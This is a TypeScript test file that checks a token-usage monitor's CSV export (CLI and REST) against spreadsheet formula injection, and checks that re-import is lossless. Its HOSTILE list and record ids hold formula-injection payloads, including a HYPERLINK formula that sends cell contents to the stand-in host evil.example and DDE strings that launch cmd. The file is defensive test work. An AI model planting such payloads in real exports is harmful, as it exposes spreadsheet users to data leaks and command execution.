/**
 * CSV formula injection (OWASP): hostile values in every string field, exported by the CLI and
 * by REST `/export.csv`, opened with a real CSV parser. No text cell may begin with a formula
 * trigger, numbers stay numbers, and this package's import restores every value exactly.
 */
import { join } from "node:path";
import { readFileSync } from "node:fs";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTokenMonitor } from "../../src/monitor/token-monitor.js";
import type { UsageRecord } from "../../src/record/types.js";
import { buildApp } from "../../src/server/build-app.js";
import { EXPORT_COLUMNS } from "../../src/server/csv/record-columns.js";
import { escapeCsvText, unescapeCsvCell } from "../../src/server/csv/formula-escape.js";
import { cliEnv, runCli, tempDir } from "./run-cli.js";

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "'=already escaped by someone",
  "''two quotes",
];
const TRIGGERS = ["=", "+", "-", "@", "\t", "\r"];
const NUMERIC = new Set<string>(EXPORT_COLUMNS.filter((c) => /tokens$|cost|nanos$|latency_ms/.test(c)));
const JSON_COLUMNS = new Set(["tags", "dimensions", "request_metadata"]);
const ADMIN_KEY = "admin-key-for-csv-tests-0123456789";

const dir = tempDir("token-usage-csv-");
const sourceDb = join(dir, "source.db");
let originals: UsageRecord[];

async function allRecords(db: string): Promise<UsageRecord[]> {
  const monitor = createTokenMonitor({ store: "sqlite", sqlitePath: db, env: {}, budget: false });
  try {
    return (await monitor.store.list({}, { limit: 100_000 })).sort((a, b) => a.id.localeCompare(b.id));
  } finally {
    await monitor.close();
  }
}

beforeAll(async () => {
  const monitor = createTokenMonitor({ store: "sqlite", sqlitePath: sourceDb, env: {}, budget: false });
  const now = Date.now();
  for (const [i, h] of HOSTILE.entries()) {
    await monitor.trackUsage({
      id: `=cmd${i}|' -C calc'!A0`, // a record id cannot hold "/"
      userId: h,
      threadId: h,
      agentName: h,
      provider: h,
      model: h,
      deployment: h,
      runId: h,
      parentRunId: h,
      inputTokens: 10 + i,
      outputTokens: 5,
      latencyMs: 12.5,
      error: true,
      errorMessage: h,
      tags: [h, "plain"],
      dimensions: { tenant: h },
      metadata: { note: h },
      timestamp: new Date(now - (i + 1) * 60_000),
    });
  }
  // Text that is a plain number is a number to a spreadsheet, not a formula: written as is.
  await monitor.trackUsage({ id: "numeric-text", userId: "-42", threadId: "+1.5e3", provider: "openai", model: "gpt-4o", inputTokens: 100, outputTokens: 50, timestamp: new Date(now - 30_000) });
  await monitor.flush();
  await monitor.close();
  originals = await allRecords(sourceDb);
  expect(originals).toHaveLength(HOSTILE.length + 1);
});

/** Checks every cell of an export as a spreadsheet would see it. */
function checkCells(csv: string): Array<Record<string, string>> {
  const rows = parse(csv, { columns: true, bom: true }) as Array<Record<string, string>>;
  expect(rows).toHaveLength(originals.length);
  expect(Object.keys(rows[0])).toEqual([...EXPORT_COLUMNS]);
  for (const row of rows) {
    for (const column of EXPORT_COLUMNS) {
      const cell = row[column];
      if (NUMERIC.has(column)) {
        if (cell !== "") expect(Number.isFinite(Number(cell)), `${column}=${JSON.stringify(cell)}`).toBe(true);
        continue;
      }
      if (row.id !== "numeric-text") expect(TRIGGERS.includes(cell[0] ?? ""), `${column}=${JSON.stringify(cell)}`).toBe(false);
    }
  }
  const byId = new Map(rows.map((r) => [unescapeCsvCell(r.id), r]));
  for (const record of originals) {
    const row = byId.get(record.id)!;
    expect(row, record.id).toBeDefined();
    if (record.id === "numeric-text") {
      expect(row.user_id).toBe("-42");
      expect(row.thread_id).toBe("+1.5e3");
      continue;
    }
    // Every hostile string field, escaped in the cell and exact once unescaped.
    for (const [column, value] of [["user_id", record.userId], ["thread_id", record.threadId], ["agent_name", record.agentName], ["provider", record.provider], ["model", record.model], ["deployment", record.deployment], ["run_id", record.runId], ["parent_run_id", record.parentRunId], ["error_message", record.errorMessage]] as const) {
      expect(row[column]).toBe(escapeCsvText(value!));
      expect(row[column][0]).toBe("'");
      expect(unescapeCsvCell(row[column])).toBe(value);
    }
    for (const column of JSON_COLUMNS) expect(["[", "{"]).toContain(row[column][0]);
    expect(JSON.parse(row.tags)).toEqual(record.tags);
    expect(JSON.parse(row.dimensions)).toEqual(record.dimensions);
    expect(row.input_tokens).toBe(String(record.inputTokens));
    expect(row.latency_ms).toBe("12.5");
  }
  return rows;
}

describe("CSV export is safe to open in a spreadsheet", () => {
  it("CLI export: no text cell starts a formula, and import restores every record exactly", async () => {
    const file = join(dir, "out.csv");
    expect((await runCli(["export", file], cliEnv(sourceDb))).code).toBe(0);
    checkCells(readFileSync(file, "utf8"));
    const targetDb = join(dir, "target.db");
    const imported = await runCli(["import", file, "--json"], cliEnv(targetDb));
    expect(imported.code, imported.stderr).toBe(0);
    expect(JSON.parse(imported.stdout)).toMatchObject({ inserted: originals.length });
    expect(await allRecords(targetDb)).toEqual(originals);
  });

  describe("REST /export.csv", () => {
    const monitor = createTokenMonitor({ store: "sqlite", sqlitePath: sourceDb, env: {}, budget: false });
    afterAll(() => monitor.close());

    it("no text cell starts a formula, and the download imports back exactly", async () => {
      const app = await buildApp({ monitor, adminKey: ADMIN_KEY, env: {} });
      try {
        const res = await app.inject({ method: "GET", url: "/token-usage/export.csv?days=3650", headers: { "x-api-key": ADMIN_KEY } });
        expect(res.statusCode).toBe(200);
        checkCells(res.body);
        const file = join(dir, "rest.csv");
        (await import("node:fs")).writeFileSync(file, res.body);
        const targetDb = join(dir, "rest-target.db");
        const imported = await runCli(["import", file, "--json"], cliEnv(targetDb));
        expect(imported.code, imported.stderr).toBe(0);
        expect(await allRecords(targetDb)).toEqual(originals);
      } finally {
        await app.close();
      }
    });
  });
});

describe("the escape rule", () => {
  it.each([
    ["=1+1", "'=1+1"],
    ["+1+cmd", "'+1+cmd"],
    ["-A1", "'-A1"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1", "'\t=1"],
    ["\r=1", "'\r=1"],
    ["'=1", "''=1"],
    ["'", "''"],
    ["-5", "-5"],
    ["+1.5e3", "+1.5e3"],
    ["-.5", "-.5"],
    ["plain", "plain"],
    ["a=b", "a=b"],
    ["", ""],
  ])("%j is written %j and read back", (value, cell) => {
    expect(escapeCsvText(value)).toBe(cell);
    expect(unescapeCsvCell(cell)).toBe(value);
  });

  it("a foreign cell that merely begins with ' is left alone on import", () => {
    expect(unescapeCsvCell("'quoted'")).toBe("'quoted'");
  });
});
